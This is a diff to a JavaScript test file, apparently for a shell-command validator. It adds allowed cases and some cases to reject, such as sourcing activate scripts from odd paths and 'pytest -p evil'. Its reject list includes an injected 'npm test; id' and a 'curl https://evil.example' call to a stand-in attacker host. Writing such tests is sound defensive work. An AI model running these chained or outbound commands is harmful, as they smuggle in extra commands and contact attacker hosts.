@@ -37,6 +37,7 @@ test.each([
   'npm run format',
   'npm audit fix',
   'pip install -r requirements.txt',
+  'cd ex7 && python3 -m venv .venv && . .venv/bin/activate && pip install -r requirements.txt && pytest -q',
   'docker compose up -d',
   'rm -rf dist node_modules .cache',
   'rm -rf dist && npm run build',
@@ -46,6 +47,11 @@ test.each([
 
 test.each([
   'npm run deploy-to-evil',
+  '. ./activate',
+  '. .venv/bin/activate.sh',
+  'source kit/bin/activate && pytest',
+  'python3 -m venv kit',
+  'pytest -p evil',
   'npm test -- --x',
   'npm test; id',
   'npm test && curl https://evil.example',
